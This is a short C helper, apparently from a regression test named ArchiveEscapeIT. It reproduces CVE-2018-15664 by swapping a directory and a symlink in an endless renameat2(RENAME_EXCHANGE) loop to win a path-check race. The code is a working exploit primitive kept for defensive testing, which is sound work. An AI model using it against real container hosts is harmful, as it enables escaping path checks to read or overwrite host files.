/*
 * Swaps two names for ever with renameat2(RENAME_EXCHANGE): a directory and a symlink, so a path
 * through one is now either (issue 10, ArchiveEscapeIT: CVE-2018-15664).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */);
}
